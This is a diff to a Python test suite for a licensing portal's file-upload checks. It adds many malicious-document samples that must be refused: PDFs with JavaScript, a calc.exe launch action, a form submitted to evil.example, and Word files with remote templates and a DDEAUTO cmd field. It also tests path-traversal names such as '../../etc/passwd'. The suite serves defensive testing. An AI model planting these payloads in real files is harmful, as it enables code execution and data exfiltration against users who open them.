@@ -13,11 +13,13 @@ from typing import Any
 import pytest
 from django.conf import LazySettings
 from django.core.files.uploadedfile import SimpleUploadedFile
+from pypdf import PdfWriter
 
-from licensing.acts.documents import clean_name
+from licensing.acts.documents.files import clean_name
 from licensing.errors import Invalid
 from licensing.models import Document
 from licensing.portal.forms.spreadsheet import read_items
+from tests import papers
 from tests.abuse.walking import signed_in
 from tests.api.calling import Caller, at
 from tests.world import World
@@ -51,7 +53,15 @@ def png(width: int, height: int) -> bytes:
 
 
 SCRIPT = "<script>alert(1)</script>"
-PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF"
+OLENA = papers.Person("Olena Prykladna", papers.Person("Invented root"))
+
+
+def flipped(content: bytes, at: bytes) -> bytes:
+    """The same bytes but for one bit of a word that is in them."""
+    place = content.index(at)
+    return content[:place] + bytes([content[place] ^ 1]) + content[place + 1 :]
+
+
 # What could run somewhere, by its first bytes or by its parts.
 REFUSED: dict[str, bytes] = {
     "program of Windows": b"MZ\x90\0\x03\0\0\0" + b"\0" * 64,
@@ -101,24 +111,162 @@ REFUSED: dict[str, bytes] = {
     "half a character": b"text \xff\xfe text",
     "nothing": b"",
 }
-# What a request may hold, although somebody could hide something in it: it is kept, and handed out only to be saved.
-KEPT: dict[str, bytes] = {
-    "plain document": PDF,
-    "document that runs a script": PDF.replace(b"/Type", b"/OpenAction <</S /JavaScript /JS (app.alert(1))>> /Type"),
-    "document that starts a program": PDF.replace(b"/Type", b"/OpenAction <</S /Launch /F (calc.exe)>> /Type"),
-    "document that is a page too": PDF + SCRIPT.encode(),
-    "document that is a zip too": PDF + archive(a="b"),
-    "document that unpacks to much": PDF + b"stream\n" + zlib.compress(b"\0" * 9_000_000) + b"\nendstream",
-    "document of many objects": PDF + b"2 0 obj <<>> endobj\n" * 20_000,
-    "picture": png(1, 1),
-    "picture of many points": png(60_000, 60_000),
-    "picture that is a page too": png(1, 1) + SCRIPT.encode(),
-    "picture with a script inside": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + SCRIPT.encode() + b"\xff\xd9",
-    "Word": office(),
-    "Excel": office("xl"),
-    "table with a formula": b"name\n=HYPERLINK(1)",
-    "text about scripts": f"He wrote {SCRIPT}.".encode(),
-    "text in Ukrainian": "Сертифікат кінцевого споживача".encode(),
+PDF = papers.pdf()
+
+
+def active_pdf(entry: str, *objects: str) -> bytes:
+    """A PDF of one page whose catalogue has one entry more; further objects are numbered from 4."""
+    body = [f"<</Type /Catalog /Pages 2 0 R {entry}>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>",
+            "<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>", *objects]  # fmt: skip
+    out, places = b"%PDF-1.7\n", []
+    for number, content in enumerate(body, 1):
+        places.append(len(out))
+        out += f"{number} 0 obj {content} endobj\n".encode()
+    table = "".join(f"{place:010} 00000 n \n" for place in places)
+    return (
+        out
+        + (
+            f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n{table}trailer <</Root 1 0 R /Size {len(body) + 1}>>\n"
+            f"startxref\n{len(out)}\n%%EOF"
+        ).encode()
+    )
+
+
+def locked_pdf() -> bytes:
+    writer, out = PdfWriter(clone_from=io.BytesIO(PDF)), io.BytesIO()
+    writer.encrypt("secret", algorithm="AES-256")
+    writer.write(out)
+    return out.getvalue()
+
+
+_EXTERNAL = {"Target": "https://evil.example/x", "TargetMode": "External"}
+# What may be a document by its kind, and cannot be opened, or does more than show itself.
+UNFIT: dict[str, tuple[str, bytes]] = {
+    "nine bytes of PDF": ("a.pdf", b"%PDF-1.7\n"),
+    "half a PDF": ("a.pdf", PDF[: len(PDF) // 2]),
+    "PDF without pages": ("a.pdf", active_pdf("").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")),
+    "PDF with a password": ("a.pdf", locked_pdf()),
+    "PDF that is a page of a loop": ("a.pdf", active_pdf("").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
+    "PDF with a script": ("a.pdf", active_pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>")),
+    "PDF with a hidden script": ("a.pdf", active_pdf("/OpenAction 4 0 R", "<</S /J#61vaScript /J#53 (app.alert(1))>>")),
+    "PDF with a script of its names": (
+        "a.pdf",
+        active_pdf("/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", "<</S /JavaScript>>"),
+    ),
+    "PDF that starts a program": ("a.pdf", active_pdf("/OpenAction <</S /Launch /F (calc.exe)>>")),
+    "PDF that sends a form": ("a.pdf", active_pdf("/AA <</WC <</S /SubmitForm /F (https://evil.example)>>>>")),
+    "PDF with a form of XML": ("a.pdf", active_pdf("/AcroForm <</XFA [] /Fields []>>")),
+    "PDF with a file inside": (
+        "a.pdf",
+        active_pdf("/Names <</EmbeddedFiles <</Names [(a) 4 0 R]>>>>", "<</Type /Filespec /EF <<>>>>"),
+    ),
+    "PDF with a film": ("a.pdf", active_pdf("/X 4 0 R", "<</Type /Annot /Subtype /RichMedia>>")),
+    "PDF that opens another inside": ("a.pdf", active_pdf("/OpenAction <</S /GoToE /T <<>>>>")),
+    "three bytes of JPEG": ("a.jpg", b"\xff\xd8\xff"),
+    "half a JPEG": ("a.jpg", papers.picture("JPEG", (400, 400))[:900]),
+    "head of a PNG": ("a.png", papers.picture()[:20]),
+    "half a PNG": ("a.png", papers.picture("PNG", (300, 300))[:-40]),
+    "PNG of very many points": ("a.png", png(60_000, 60_000)),
+    "half a TIFF": ("a.tif", papers.picture("TIFF", (200, 200))[:200]),
+    "blank text": ("a.txt", b" \n\t "),
+    "text of nothing visible": ("a.txt", "\u200b\u2800\u3164 \ufeff".encode()),
+    "Word without its text": (
+        "a.docx",
+        office()[:0] + archive(**{"[Content_Types]_xml": "<Types/>", "word/other_xml": "<w/>"}),
+    ),
+    "Word with a remote template": (
+        "a.docx",
+        papers.word(**{"word/_rels/settings.xml.rels": papers.relations(Type="attachedTemplate", **_EXTERNAL)}),
+    ),
+    "Word with a remote object": (
+        "a.docx",
+        papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="oleObject", **_EXTERNAL)}),
+    ),
+    "Word with a remote picture": (
+        "a.docx",
+        papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="image", **_EXTERNAL)}),
+    ),
+    "Word that runs a command": (
+        "a.docx",
+        papers.word(**{"word/document.xml": '<w:document><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:document>'}),
+    ),
+    "Word with entities": ("a.docx", papers.word(**{"word/document.xml": '<!DOCTYPE x [<!ENTITY e "x">]><w>&e;</w>'})),
+    "Excel with a live link": (
+        "a.xlsx",
+        papers.archive({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>", "xl/externalLinks/e.xml": "<ddeLink/>"}),
+    ),
+    "program named as a signature": ("a.p7s", b"MZ\x90\0" + b"\0" * 60),
+    "signature without its document": ("a.p7s", OLENA.sign(PDF, detached=True)),
+    "signed document, one bit changed": ("a.p7s", flipped(OLENA.sign(b"I certify this."), b"certify")),
+    "signed program": ("a.p7s", OLENA.sign(b"MZ\x90\0" + b"\0" * 60)),
+    "signed page": ("a.p7s", OLENA.sign(b"<html><script>alert(1)</script>")),
+    "signed PDF with a script": ("a.p7s", OLENA.sign(active_pdf("/OpenAction <</S /JavaScript /JS (a)>>"))),
+    "signature of a signature": ("a.p7s", OLENA.sign(OLENA.sign(PDF))),
+    "signed nothing": ("a.p7s", OLENA.sign(b"")),
+    "container, one file changed": ("a.asice", papers.altered(papers.container({"a.txt": b"one"}, OLENA), "a.txt", b"two")),
+    "container of XML, one file changed": (
+        "a.asice",
+        papers.altered(papers.container({"a.txt": b"one"}, OLENA, way="xades"), "a.txt", b"two"),
+    ),
+    "container with one file changed": (
+        "a.asics",
+        papers.altered(papers.container({"a.txt": b"one"}, OLENA, kind="s"), "a.txt", b"two"),
+    ),
+    "container with a file that nobody signed": (
+        "a.asice",
+        papers.altered(papers.container({"a.txt": b"one"}, OLENA), "b.txt", b"two"),
+    ),
+    "container of XML with a file that nobody signed": (
+        "a.asice",
+        papers.altered(papers.container({"a.txt": b"one"}, OLENA, way="xades"), "b.txt", b"two"),
+    ),
+    "container without a signature": (
+        "a.asice",
+        papers.archive({"mimetype": "application/vnd.etsi.asic-e+zip", "a.txt": b"one"}, stored=("mimetype",)),
+    ),
+    "container without a file": (
+        "a.asice",
+        papers.archive({"mimetype": "application/vnd.etsi.asic-e+zip"}, stored=("mimetype",)),
+    ),
+    "container with a program": ("a.asice", papers.container({"run.exe": b"MZ\x90\0" + b"\0" * 60}, OLENA)),
+    "container with text named as a program": ("a.asice", papers.container({"run.bat": b"echo hello"}, OLENA)),
+    "container cut short": ("a.asice", papers.container({"a.txt": b"one"}, OLENA)[:-30]),
+    "text named as a program": ("contract.bat", b"echo hello"),
+    "text named as a script": ("run.ps1", b"Get-Item ."),
+    "text named as a page": ("x.html", b"hello"),
+    "text named as a link": ("x.url", b"[InternetShortcut]\nURL=http://evil"),
+    "text named as a script of Visual Basic": ("x.vbs", b"MsgBox 1"),
+    "text named as a PDF": ("x.pdf", b"Invented certificate"),
+    "PDF named as a program": ("contract.pdf.exe", PDF),
+    "picture named as another": ("photo.jpg", papers.picture()),
+    "Excel named as Word": ("a.docx", papers.sheet()),
+}
+# What a request may hold: it is kept, and handed out only to be saved.
+KEPT: dict[str, tuple[str, bytes]] = {
+    "plain document": ("a.pdf", PDF),
+    "document with a link": ("a.pdf", active_pdf("/X 4 0 R", "<</S /URI /URI (https://example.org)>>")),
+    "document that is a page too": ("a.pdf", PDF + SCRIPT.encode()),
+    "document with the ending in capitals": ("A.PDF", PDF),
+    "document without an ending": ("certificate", PDF),
+    "document with a number for an ending": ("Contract No. 7", PDF),
+    "picture": ("a.png", papers.picture()),
+    "photograph": ("a.jpeg", papers.picture("JPEG")),
+    "scan": ("a.tiff", papers.picture("TIFF")),
+    "picture that is a page too": ("a.png", papers.picture() + SCRIPT.encode()),
+    "Word": ("a.docx", papers.word()),
+    "Word with a link": (
+        "a.docx",
+        papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="hyperlink", **_EXTERNAL)}),
+    ),
+    "Excel": ("a.xlsx", papers.sheet()),
+    "table with a formula": ("a.csv", b"name\n=HYPERLINK(1)"),
+    "text about scripts": ("a.txt", f"He wrote {SCRIPT}.".encode()),
+    "text in Ukrainian": ("сертифікат.txt", "Сертифікат кінцевого споживача".encode()),
+    "signed document": ("a.p7s", OLENA.sign(PDF)),
+    "signed text": ("a.p7s", OLENA.sign(b"I certify this.")),
+    "container": ("a.asice", papers.container({"contract.pdf": PDF, "note.txt": b"Signed by all."}, OLENA)),
+    "container signed in XML": ("a.asice", papers.container({"contract.pdf": PDF, "note.txt": b"Ok"}, OLENA, way="xades")),
+    "container of one file": ("a.asics", papers.container({"contract.pdf": PDF}, OLENA, kind="s")),
 }
 NAMES = {
     "../../etc/passwd": "passwd",
@@ -146,9 +294,10 @@ def attached(caller: Caller, case: Any, content: bytes, name: str = "certificate
 
 def test_what_could_run_is_not_taken(world: World, tmp_path: Path) -> None:
     caller, case = Caller(world.paula), world.draft()
-    assert len(REFUSED) + len(KEPT) >= 60
+    assert len(REFUSED) + len(UNFIT) + len(KEPT) >= 100
 
     answers = {name: attached(caller, case, content).status_code for name, content in REFUSED.items()}
+    answers |= {name: attached(caller, case, content, called).status_code for name, (called, content) in UNFIT.items()}
 
     assert {name: status for name, status in answers.items() if status != 422} == {}
     assert (Document.objects.count(), [one for one in tmp_path.rglob("*") if one.is_file()]) == (0, [])
@@ -157,8 +306,8 @@ def test_what_could_run_is_not_taken(world: World, tmp_path: Path) -> None:
 def test_what_is_taken_is_only_ever_saved(world: World) -> None:
     caller, case, paula = Caller(world.paula), world.draft(), signed_in(world.paula)
 
-    for name, content in KEPT.items():
-        answer = attached(caller, case, content)
+    for name, (called, content) in KEPT.items():
+        answer = attached(caller, case, content, called)
         assert (name, answer.status_code) == (name, 201)
         place = answer["Location"]
         for handed in (caller.get(place), paula.get(place.removeprefix("/api/v1"))):
